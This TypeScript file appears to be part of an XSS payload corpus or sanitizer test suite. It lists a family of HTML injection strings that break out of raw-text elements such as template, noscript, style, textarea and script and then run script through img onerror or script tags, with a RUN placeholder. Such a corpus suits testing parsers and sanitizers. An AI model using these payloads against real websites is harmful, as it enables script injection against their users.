import { family } from "./payload";

/** Elements whose content is text, a fragment or nothing, and ways out of them. */
export const rawText = family("raw text elements", 800, [
  "<template><img src=x onerror=RUN></template>",
  "</template><img src=x onerror=RUN>",
  '<template shadowrootmode="open"><img src=x onerror=RUN></template>',
  '<div><template shadowrootmode="open"><script>RUN</script></template></div>',
  "<noscript><img src=x onerror=RUN></noscript>",
  "</noscript><img src=x onerror=RUN>",
  "<style></style><img src=x onerror=RUN>",
  "</style><script>RUN</script>",
  "<title></title><img src=x onerror=RUN>",
  "</title><script>RUN</script>",
  "<textarea></textarea><img src=x onerror=RUN>",
  "</textarea><img src=x onerror=RUN>",
  "<plaintext><img src=x onerror=RUN>",
  "<xmp></xmp><img src=x onerror=RUN>",
  "<noembed></noembed><img src=x onerror=RUN>",
  "<noframes></noframes><img src=x onerror=RUN>",
  "<iframe></iframe><img src=x onerror=RUN>",
  "</script><img src=x onerror=RUN>",
  "</script ><script>RUN</script>",
  "<!--<script></script><img src=x onerror=RUN>-->",
  "</select></option></button><img src=x onerror=RUN>",
]);
